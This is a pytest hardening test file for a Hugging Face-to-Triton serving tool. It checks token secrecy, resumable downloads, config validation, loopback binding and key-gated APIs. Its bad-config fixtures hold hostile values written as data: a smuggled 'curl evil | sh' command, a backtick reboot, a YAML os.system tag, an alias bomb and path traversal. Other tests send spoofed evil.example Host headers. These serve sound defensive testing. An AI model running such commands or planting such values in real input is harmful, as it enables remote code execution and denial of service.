"""Hardening: tokens, interrupted downloads, small disks, bad configs through the CLI, hostile clients,
and safe defaults (loopback only, mutating APIs closed, no shell)."""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
import time
import urllib.error
import urllib.request
from pathlib import Path

import numpy as np
import pytest
import tritonclient.grpc as grpcclient
import tritonclient.http as httpclient
from tritonclient.utils import InferenceServerException

from hf2triton.fsutil import sha256_file
from hf2triton.triton import client
from tests.helpers import BIN, ROOT, SNAKEFILE, make_workflow, minilm_dir
from tests.mini_hub import MiniHub, wait_for

pytestmark = pytest.mark.integration

TOKEN = "hf_" + "T0kenThatMustNeverBeLogged42"


def all_text_under(directory: Path) -> str:
    chunks = []
    for path in directory.rglob("*"):
        if path.is_file() and path.stat().st_size < 5_000_000:
            chunks.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(chunks)


# ---------------------------------------------------------------- hub: tokens and resume


def test_private_repo_asks_for_token_and_never_logs_it(tmp_path, tiny_models):
    hub = MiniHub("acme/private-embed", tiny_models["feature-extraction"], token=TOKEN).start()
    try:
        workflow = make_workflow(tmp_path / "w", [{"name": "priv", "source": "acme/private-embed", "task": "feature-extraction"}])
        workflow.env.update(HF_ENDPOINT=hub.endpoint, HF2TRITON_FETCH_RETRIES="1")
        workflow.env.pop("HF_TOKEN", None)
        without = workflow.run(".hf2triton/models/priv/fetch.json", check=False)
        assert without.returncode != 0
        assert "acme/private-embed" in without.stderr and "export HF_TOKEN=" in without.stderr
        assert not (workflow.directory / ".hf2triton/models/priv/fetch.json").exists()

        workflow.env["HF_TOKEN"] = TOKEN
        with_token = workflow.run(".hf2triton/models/priv/fetch.json")
        assert f"Bearer {TOKEN}" in hub.authorizations, "the token from the environment is sent"
        record = json.loads((workflow.directory / ".hf2triton/models/priv/fetch.json").read_text())
        assert record["resolved_revision"] and "model.safetensors" in record["files"]
        for text in (without.stdout, without.stderr, with_token.stdout, with_token.stderr, all_text_under(workflow.directory)):
            assert TOKEN not in text
    finally:
        hub.stop()


def test_fetch_killed_mid_download_resumes_byte_identical(tmp_path):
    """Killed while a 90 MB weight file is half transferred: nothing counts as done; the next run
    continues from the bytes already on disk (HTTP Range) and the file is byte-identical."""
    source = minilm_dir()
    hub = MiniHub("acme/minilm", source, stall_file="model.safetensors").start()
    try:
        workflow = make_workflow(tmp_path / "w", [{"name": "mini", "source": "acme/minilm", "task": "feature-extraction"}])
        workflow.env["HF_ENDPOINT"] = hub.endpoint
        target = ".hf2triton/models/mini/fetch.json"
        process = workflow.popen(target)
        assert wait_for(hub.half_sent.is_set, 120), "download never started"
        partial = lambda: [p for p in (workflow.directory / ".hf2triton/hub").rglob("*.incomplete") if p.stat().st_size > 0]  # noqa: E731
        assert wait_for(lambda: bool(partial()), 30), "no partial file written"
        time.sleep(0.5)
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
        hub.release.set()
        assert not (workflow.directory / target).exists()
        written = max(p.stat().st_size for p in partial())

        workflow.run(target)
        resumed_from = int(re.match(r"bytes=(\d+)-", hub.ranges[-1]).group(1))
        assert resumed_from >= written > 0, (hub.ranges, written)
        record = json.loads((workflow.directory / target).read_text())
        assert record["files"]["model.safetensors"]["sha256"] == sha256_file(source / "model.safetensors")
        print(f"resumed at byte {resumed_from} of {(source / 'model.safetensors').stat().st_size}")
    finally:
        hub.stop()


# ---------------------------------------------------------------- disk and config


def test_disk_too_small_refused_with_needed_and_free_sizes(tmp_path):
    workflow = make_workflow(tmp_path / "w", [{"name": "mini", "source": str(minilm_dir()), "task": "feature-extraction"}])
    workflow.env["HF2TRITON_DISK_RESERVE_BYTES"] = str(10**18)  # leave "room for other work": more than any disk
    result = workflow.run("serve", check=False)
    assert result.returncode == 1
    line = next(line for line in result.stderr.splitlines() if "preflight failed" in line)
    assert re.search(r"disk: 0 B free at \.hf2triton, [0-9.]+ MB needed for 1 model", line), line
    assert not (workflow.directory / ".hf2triton" / "models").exists()


BAD_CONFIG_FILES = [
    ("name-traversal", "models:\n  - {name: ../../etc, source: org/x, task: feature-extraction}\n", "config.models[0].name"),
    ("name-separator", "models:\n  - {name: a/b, source: org/x, task: feature-extraction}\n", "config.models[0].name"),
    ("shell-source", "models:\n  - {name: a, source: 'org/x; curl evil | sh', task: feature-extraction}\n", "config.models[0].source"),
    ("backtick-source", "models:\n  - {name: a, source: '`reboot`', task: feature-extraction}\n", "config.models[0].source"),
    ("absurd-batch", "models:\n  - {name: a, source: org/x, task: feature-extraction, max_batch_size: 99999999999}\n", "max_batch_size"),
    ("absurd-instances", "models:\n  - {name: a, source: org/x, task: feature-extraction, instances: 100000}\n", "instances"),
    (
        "alias-bomb",
        "a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
        "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\n",
        "alias bomb",
    ),
    ("not-a-mapping", "- models\n", "mapping"),
    ("scalar", "just a string\n", "mapping"),
    ("python-tag", "models: !!python/object/apply:os.system ['id']\n", "YAML"),
]


@pytest.mark.parametrize("content,word", [(c, w) for _, c, w in BAD_CONFIG_FILES], ids=[i for i, _, _ in BAD_CONFIG_FILES])
def test_bad_config_files_through_the_cli(tmp_path, content, word):
    (tmp_path / "bad.yaml").write_text(content)
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    cmd = [str(BIN / "snakemake"), "-s", str(SNAKEFILE), "-d", str(tmp_path), "--cores", "1", "serve"]
    env = {**os.environ, "HF2TRITON_CONFIG": str(tmp_path / "bad.yaml")}  # read like config.yaml itself
    result = subprocess.run(cmd, capture_output=True, text=True, timeout=120, check=False, env=env)
    assert result.returncode == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("hf2triton: error")]
    assert len(errors) == 1 and word in errors[0], result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    after = sorted(str(p) for p in tmp_path.rglob("*") if ".snakemake" not in p.parts)
    assert after == before


def test_non_utf8_config_through_the_cli(tmp_path):
    (tmp_path / "bad.yaml").write_bytes(b"models:\n  - {name: caf\xe9, source: org/x, task: feature-extraction}\n")
    cmd = [str(BIN / "snakemake"), "-s", str(SNAKEFILE), "-d", str(tmp_path), "--cores", "1", "serve"]
    env = {**os.environ, "HF2TRITON_CONFIG": str(tmp_path / "bad.yaml")}
    result = subprocess.run(cmd, capture_output=True, text=True, timeout=120, check=False, env=env)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "byte 22 is not valid UTF-8" in result.stderr


# ---------------------------------------------------------------- hostile clients against a live server


@pytest.fixture(scope="module")
def live(tiny_workflow):
    settings = tiny_workflow.settings()
    return settings, client.http_client(settings.url()), client.grpc_client(settings.url("grpc_port"))


def embed_once(client, text: bytes = b"still serving") -> np.ndarray:
    tensor = httpclient.InferInput("text", [1, 1], "BYTES")
    tensor.set_data_from_numpy(np.array([[text]], dtype=np.object_))
    return client.infer("embed", [tensor]).as_numpy("embedding")


def test_garbage_bytes_on_http_and_grpc_ports(live):
    settings, http, _ = live
    for port in (settings.server.http_port, settings.server.grpc_port, settings.server.metrics_port):
        for payload in (
            os.urandom(4096),
            b"GET / HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
            b"\x00" * 1024,
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + os.urandom(512),
        ):
            with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
                sock.sendall(payload)
                sock.settimeout(2)
                try:
                    sock.recv(1024)
                except (TimeoutError, ConnectionResetError):
                    pass
    assert http.is_server_ready() and embed_once(http).shape == (1, 32)


def test_client_disconnecting_mid_request(live):
    settings, http, _ = live
    keyed = f"{client.KEY_HEADER}: {client.client_key()}\r\n"  # the requests reach the model
    body = json.dumps({"inputs": [{"name": "text", "shape": [1, 1], "datatype": "BYTES", "data": ["x" * 1000]}]}).encode()
    for cut in (10, len(body) // 2, len(body) - 1):
        with socket.create_connection(("127.0.0.1", settings.server.http_port), timeout=5) as sock:
            head = (
                f"POST /v2/models/embed/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{keyed}"
                f"Content-Length: {len(body)}\r\n\r\n"
            )
            sock.sendall(head.encode() + body[:cut])
    # a complete request whose client goes away before the answer (generation takes a while)
    with socket.create_connection(("127.0.0.1", settings.server.http_port), timeout=5) as sock:
        gen = json.dumps({"text": "Hello", "max_new_tokens": 8}).encode()
        head = f"POST /v2/models/generate/generate_stream HTTP/1.1\r\nHost: x\r\n{keyed}Content-Length: {len(gen)}\r\n\r\n"
        sock.sendall(head.encode() + gen)
    time.sleep(1)
    assert http.is_server_ready() and embed_once(http).shape == (1, 32)


def test_megabyte_string_and_overlong_text(live):
    _, http, _ = live
    with pytest.raises(InferenceServerException, match="max_input_bytes"):
        embed_once(http, b"a" * 1_048_576)
    long_text = " ".join(["word"] * 2000).encode()  # 20 KB: allowed bytes, far beyond 128 tokens -> truncated
    assert embed_once(http, long_text).shape == (1, 32)
    assert http.is_server_ready()


def non_loopback_address() -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.connect(("10.255.255.255", 1))  # no packet is sent; picks the outgoing interface
            address = sock.getsockname()[0]
        except OSError:
            return None
    return None if address.startswith("127.") else address


def test_server_listens_on_loopback_only(live):
    settings, _, _ = live
    address = non_loopback_address()
    if address is None:
        pytest.skip("this machine has no non-loopback IPv4 address to try")
    for port in (settings.server.http_port, settings.server.grpc_port, settings.server.metrics_port):
        with pytest.raises(OSError):
            socket.create_connection((address, port), timeout=3).close()


def test_mutating_apis_are_closed_without_the_key(live):
    settings, http, grpc = live
    base = f"http://{settings.url()}/v2"
    for path in ("/repository/models/embed/unload", "/repository/index", "/logging", "/trace/setting"):
        request = urllib.request.Request(base + path, data=b"{}", method="POST")
        with pytest.raises(urllib.error.HTTPError) as info:
            urllib.request.urlopen(request, timeout=5)
        assert info.value.code == 403, path
    with pytest.raises(InferenceServerException, match="restricted"):
        grpc.unload_model("embed")
    assert http.is_model_ready("embed")


def test_client_apis_need_the_key_health_does_not(live):
    """Issue 32: a web page (cross-site POST, DNS rebinding) cannot supply the per-user key, so Triton's own
    ports refuse it metadata and inference; health stays open for probes."""
    settings, keyed_http, keyed_grpc = live
    http, grpc = httpclient.InferenceServerClient(settings.url()), grpcclient.InferenceServerClient(settings.url("grpc_port"))
    assert http.is_server_live() and http.is_server_ready() and grpc.is_server_live() and grpc.is_model_ready("embed")
    tensor = httpclient.InferInput("text", [1, 1], "BYTES")
    tensor.set_data_from_numpy(np.array([[b"hi"]], dtype=np.object_))
    for call in (lambda: http.infer("embed", [tensor]), lambda: http.get_model_metadata("embed"), http.get_server_metadata):
        with pytest.raises(InferenceServerException, match="restricted"):
            call()
    inputs = client.build_inputs(grpcclient, ["hi"])
    for call in (lambda: grpc.infer("embed", inputs), lambda: grpc.get_model_metadata("embed"), lambda: grpc.get_model_config("embed")):
        with pytest.raises(InferenceServerException, match="restricted"):
            call()
    assert keyed_http.get_model_metadata("embed")["name"] == "embed" and keyed_grpc.get_model_config("embed").config.name == "embed"


def test_foreign_host_and_text_plain_without_the_key_are_refused(live):
    """What a rebound host name or a cross-site "simple" request can send: no custom header, so no key."""
    settings, http, _ = live
    before = client.model_statistics(settings.url(), "embed")["inference_count"]
    body = json.dumps({"inputs": [{"name": "text", "shape": [1, 1], "datatype": "BYTES", "data": ["x"]}]}).encode()
    base = f"http://{settings.url()}/v2/models/embed"
    attempts = [
        (f"{base}/infer", body, {"Host": "evil.example", "Content-Type": "application/json"}),
        (f"{base}/infer", body, {"Content-Type": "text/plain"}),
        (f"{base}/infer", body, {"Host": "evil.example", "Content-Type": "text/plain"}),
        (base, None, {"Host": f"evil.example:{settings.server.http_port}"}),
    ]
    for url, data, headers in attempts:
        request = urllib.request.Request(url, data=data, headers=headers, method="POST" if data else "GET")  # noqa: S310
        with pytest.raises(urllib.error.HTTPError) as info:
            urllib.request.urlopen(request, timeout=5)  # noqa: S310 - loopback
        assert info.value.code == 403 and "restricted" in info.value.read().decode(), (url, headers)
    assert client.model_statistics(settings.url(), "embed")["inference_count"] == before, "nothing was computed"
    assert embed_once(http).shape == (1, 32)


# ---------------------------------------------------------------- code hygiene


def test_every_triton_client_sends_the_key():
    """tritonclient clients are made through hf2triton.triton.client (http_client, grpc_client, keyed): one made
    directly would get 403 from every server of ours."""
    offenders = []
    for path in [path for folder in ("hf2triton", "benchmarks", "scripts") for path in ROOT.joinpath(folder).rglob("*.py")]:
        for number, line in enumerate(path.read_text().splitlines(), 1):
            if "InferenceServerClient(" in line and "keyed(" not in line and path.name != "client.py":
                offenders.append(f"{path.relative_to(ROOT)}:{number}")
    assert offenders == []


def test_no_shell_true_and_no_os_system():
    offenders = []
    for path in [
        *ROOT.joinpath("hf2triton").rglob("*.py"),
        *ROOT.joinpath("scripts").glob("*.py"),
        *ROOT.joinpath("rules").glob("*.smk"),
        ROOT / "Snakefile",
    ]:
        text = path.read_text()
        if re.search(r"shell\s*=\s*True|os\.system\(|os\.popen\(", text) or re.search(r"^\s+shell:", text, re.M):
            offenders.append(str(path))
    assert offenders == []
